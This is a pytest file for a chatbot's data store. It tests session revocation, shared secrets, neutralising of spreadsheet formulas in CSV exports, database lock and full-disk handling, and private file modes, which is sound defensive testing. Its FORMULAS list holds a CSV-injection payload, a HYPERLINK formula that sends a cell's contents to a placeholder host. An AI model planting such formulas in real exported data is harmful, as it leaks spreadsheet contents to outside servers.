"""The store's security side on real SQLite and PostgreSQL: staff sessions and their revocation,
the shared secret, CSV formula neutralising, text PostgreSQL would refuse, a locked database and
a full disk, and private file modes."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import stat
import subprocess
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from argon2 import PasswordHasher
from sqlalchemy import event, text

from bot.chat.models import Answer, Citation
from bot.errors import StorageError
from bot.settings import Settings
from bot.store import Store, TranscriptFilter

FAST = PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1)


class Clock:
    def __init__(self) -> None:
        self.now = datetime(2026, 6, 1, 8, 0, tzinfo=UTC)

    def __call__(self) -> datetime:
        return self.now


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def store(database_url: str, clock: Clock) -> Iterator[Store]:
    with Store.from_url(database_url, clock=clock, hasher=FAST) as opened:
        opened.add_user("li", "counselor", "correct horse 1")
        opened.add_user("wang", "maintainer", "correct horse 2")
        yield opened


def answer(text: str = "可以申请[1]。") -> Answer:
    citation = Citation(n=1, title="补贴通知", text="低保家庭毕业生可申请补贴。", source="a.md")
    return Answer(answer=text, citations=[citation])


# --- staff sessions ------------------------------------------------------------------------
def test_staff_session_opens_and_logout_ends_it(store: Store) -> None:
    token = store.open_staff_session("LI", client="10.0.0.8")
    login = store.staff_session(token)
    assert login is not None and (login.name, login.role) == ("li", "counselor")
    assert len(token) >= 43 and store.staff_session(token + "x") is None
    store.close_staff_session(token)
    assert store.staff_session(token) is None
    with store.engine.connect() as conn:  # only the digest is ever stored
        stored = [r[0] for r in conn.execute(text("SELECT token_sha256 FROM staff_sessions"))]
    assert token not in stored


def test_password_change_and_removal_end_every_session(store: Store) -> None:
    first, second = store.open_staff_session("li"), store.open_staff_session("li")
    other = store.open_staff_session("wang")
    store.set_password("li", "a brand new password")
    assert store.staff_session(first) is None and store.staff_session(second) is None
    assert store.staff_session(other) is not None  # another user's login is untouched
    store.remove_user("wang")
    assert store.staff_session(other) is None


def test_sessions_expire_and_end_when_idle(store: Store, clock: Clock) -> None:
    token = store.open_staff_session("li")
    clock.now += timedelta(hours=1, minutes=50)
    assert store.staff_session(token) is not None  # in use: the idle clock restarts
    clock.now += timedelta(hours=1, minutes=50)
    assert store.staff_session(token) is not None
    clock.now += timedelta(hours=2, minutes=1)  # two hours without a request
    assert store.staff_session(token) is None
    busy = store.open_staff_session("li")
    for _ in range(13):  # used every hour, still ends at the 12-hour lifetime
        clock.now += timedelta(hours=1)
        alive = store.staff_session(busy) is not None
    assert not alive


def test_the_role_is_read_from_the_account_not_the_session(store: Store) -> None:
    token = store.open_staff_session("li")
    with store.engine.begin() as conn:
        conn.execute(text("UPDATE users SET role = 'maintainer' WHERE name = 'li'"))
    login = store.staff_session(token)
    assert login is not None and login.role == "maintainer"


def test_two_processes_share_sessions_and_the_secret(
    database_url: str, store: Store, clock: Clock
) -> None:
    """Two serve processes on one database accept each other's logins (issue 11)."""
    with Store.from_url(database_url, clock=clock, hasher=FAST) as other:
        token = store.open_staff_session("li")
        login = other.staff_session(token)
        assert login is not None and login.name == "li"
        assert store.shared_secret("cookies") == other.shared_secret("cookies")
        assert len(store.shared_secret("cookies")) == 64
        assert store.shared_secret("csrf") != store.shared_secret("cookies")


def test_an_old_secret_file_is_imported_once(database_url: str, tmp_path: Path) -> None:
    legacy = tmp_path / "session_secret"
    legacy.write_text("0123456789abcdef" * 4 + "\n")
    with Store.from_url(database_url) as store:
        assert store.shared_secret("cookies", legacy_file=legacy) == b"0123456789abcdef" * 4
        legacy.write_text("changed later, no longer read")
        assert store.shared_secret("cookies", legacy_file=legacy) == b"0123456789abcdef" * 4


# --- export and text -------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://x.example/?q="&A1,"点我")', "+86 123", "-1+1", "@SUM(A1)"]


def test_csv_export_neutralises_formulas(store: Store) -> None:
    sid = store.ensure_session(None)
    for question in [*FORMULAS, "\tTAB", "\rCR", "普通问题 = 正常"]:
        store.add_exchange(sid, question, answer("=1+1 是答案"), 1)
    exported = store.export(TranscriptFilter(limit=None), "csv")
    rows = list(csv.DictReader(io.StringIO(exported, newline="")))
    questions = [row["question"] for row in rows]
    assert questions[:4] == ["'" + q for q in FORMULAS]
    assert questions[4:6] == ["'\tTAB", "'\rCR"]
    assert questions[6] == "普通问题 = 正常"  # only a leading sign is a formula
    assert all(row["answer"] == "'=1+1 是答案" for row in rows)
    # JSON Lines is for programs: kept exactly
    lines = store.export(TranscriptFilter(limit=None), "jsonl")
    assert '"question": "=HYPERLINK(' in lines


def test_text_postgres_refuses_is_cleaned_before_it_is_stored(store: Store) -> None:
    sid = store.ensure_session(None)
    turn = store.add_exchange(sid, "补贴\x00申请\ud800？", answer("答\x00案\udfff"), 1)
    store.record_feedback(turn, sid, -1, "评论\x00\ud83d")
    stored = store.conversation_for_session(sid).turns[0]
    assert stored.question == "补贴申请\ufffd？" and stored.answer.answer == "答案\ufffd"
    assert stored.feedback is not None and stored.feedback.comment == "评论\ufffd"


# --- a busy database and a full disk ----------------------------------------------------------
def test_a_writer_holding_sqlite_for_seconds_delays_but_does_not_fail_chats(
    settings: Settings,
) -> None:
    """Three exchanges arrive while another process holds the write lock; all are stored."""
    with Store(settings) as store:
        sids = [store.ensure_session(None) for _ in range(3)]
        blocker = sqlite3.connect(settings.home / "careercoach.sqlite3", isolation_level=None)
        blocker.execute("BEGIN IMMEDIATE")
        blocker.execute("INSERT INTO secrets VALUES ('held', 'x', '2026-01-01 00:00:00')")
        started = threading.Barrier(4)

        def chat(sid: str) -> int:
            started.wait()
            return store.add_exchange(sid, "西部计划怎么报名？", answer(), 1)

        with ThreadPoolExecutor(max_workers=3) as pool:
            futures = [pool.submit(chat, sid) for sid in sids]
            started.wait()
            # hold the lock while the three wait for it (the busy timeout is 10 s)
            threading.Event().wait(3)
            blocker.execute("COMMIT")
            turn_ids = [future.result(timeout=60) for future in futures]
        blocker.close()
        assert len(set(turn_ids)) == 3
        assert sum(s.turn_count for s in store.list_conversations()) == 3


def test_a_full_sqlite_database_raises_storage_error_and_keeps_what_was_stored(
    settings: Settings,
) -> None:
    with Store(settings) as store:
        sid = store.ensure_session(None)
        store.add_exchange(sid, "第一个问题", answer(), 1)

        @event.listens_for(store.engine, "connect")
        def no_room(dbapi_connection: object, _record: object) -> None:
            cursor = dbapi_connection.cursor()  # type: ignore[attr-defined]
            pages = cursor.execute("PRAGMA page_count").fetchone()[0]
            cursor.execute(f"PRAGMA max_page_count = {pages}")
            cursor.close()

        store.engine.dispose()  # new connections get the limit
        with pytest.raises(StorageError) as full:
            store.add_exchange(sid, "长" * 20000, answer("答" * 20000), 1)
        assert "full" in full.value.message and "数据库写入失败" in full.value.message_zh
        assert [t.question for t in store.conversation_for_session(sid).turns] == ["第一个问题"]


@pytest.fixture
def tiny_home(tmp_path: Path) -> Iterator[Path]:
    """A 2 MiB tmpfs as the home: a real full file system (needs root to mount)."""
    mount = tmp_path / "tiny"
    mount.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=2m", "tmpfs", str(mount)],
        capture_output=True,
        check=False,
    )
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.decode().strip()}")
    try:
        yield mount / "home"
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


def test_a_full_file_system_raises_storage_error(tiny_home: Path) -> None:
    with Store(Settings(home=tiny_home)) as store:
        sid = store.ensure_session(None)
        store.add_exchange(sid, "先存一个", answer(), 1)
        (tiny_home / "filler").write_bytes(b"")
        with (tiny_home / "filler").open("ab", buffering=0) as filler:
            try:
                while True:
                    filler.write(b"\0" * 65536)
                    filler.flush()
            except OSError:
                pass
        with pytest.raises(StorageError):
            for n in range(200):
                store.add_exchange(sid, f"问题{n}" * 500, answer("答" * 3000), 1)
        (tiny_home / "filler").unlink()
        assert store.conversation_for_session(sid).turns[0].question == "先存一个"


# --- file modes ----------------------------------------------------------------------------
def test_the_sqlite_file_is_private(settings: Settings) -> None:
    with Store(settings) as store:
        sid = store.ensure_session(None)
        store.add_exchange(sid, "你好", answer(), 1)
    db = settings.home / "careercoach.sqlite3"
    for path in [db, *db.parent.glob("careercoach.sqlite3-*")]:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    assert stat.S_IMODE(settings.home.stat().st_mode) == 0o700


def test_an_existing_world_readable_database_is_tightened(settings: Settings) -> None:
    Store(settings).close()
    db = settings.home / "careercoach.sqlite3"
    os.chmod(db, 0o644)
    Store(settings).close()
    assert stat.S_IMODE(db.stat().st_mode) == 0o600
